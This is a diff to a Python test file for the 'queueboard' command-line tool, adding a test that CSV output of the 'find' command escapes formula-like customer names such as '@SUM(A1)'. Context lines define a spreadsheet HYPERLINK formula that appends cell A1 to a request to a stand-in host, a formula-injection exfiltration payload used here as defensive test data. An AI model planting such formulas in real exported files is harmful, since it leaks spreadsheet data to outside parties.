@@ -13,9 +13,11 @@ from queueboard.cli.running import build_parser
 from queueboard.papers.csv_lists import TABLES, typed_cell
 from queueboard.shop.money import take_payment
 from queueboard.shop.opening import close_shop
+from queueboard.words import Settling
 from tests.cli.schema import clock
 from tests.house.test_readme import commands, options
 from tests.shop.place import by, cash, counter, parcel, small_shop
+from tests.shop.undo_charging import gone_as
 
 FORMULA = '=HYPERLINK("http://x.invalid?"&A1,"[red]Oake[/]")'
 ASKED = {"box": ["101"], "find": ["dunmere"], "customer": ["dunmere"]}
@@ -83,3 +85,26 @@ def test_two_shapes_at_once_are_refused(formulas: str, capsys: pytest.CaptureFix
 def test_every_csv_has_its_table() -> None:
     """A command takes --csv exactly where its columns are known."""
     assert {name for name, parser in commands(build_parser()) if "--csv" in options(parser)} == set(TABLES)
+
+
+def test_find_lists_the_boxes_that_are_gone_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Open boxes, then those gone, as the text has them; those gone say when they left, with whom and how paid."""
+    shop = small_shop(tmp_path)
+    gone_as(shop, Settling.ON_ACCOUNT, name="@SUM(A1)")
+    counter(shop, name="@SUM(A1)")
+    close_shop(shop)
+    assert main(["find", "sum", "--file", str(shop.path)], clock=clock) == FINE
+    said = capsys.readouterr().out.splitlines()
+
+    assert main(["find", "sum", "--csv", "--file", str(shop.path)], clock=clock) == FINE
+
+    read = rows(capsys)
+    assert [row["number"] for row in read] == ["101", "100"]
+    assert len(read) == sum(line.startswith("Box ") for line in said)
+    assert [row["customer_name"] for row in read] == ["'@SUM(A1)", "'@SUM(A1)"]
+    assert [(row["left_at"][:10], row["handed_to"], row["settled"]) for row in read] == [
+        ("", "", ""),
+        ("2026-11-09", "'@SUM(A1)", "on account"),
+    ]
+    assert read[1]["owed_cents"] == "1800"
+    assert not [cell for row in read for cell in row.values() if "{" in cell]
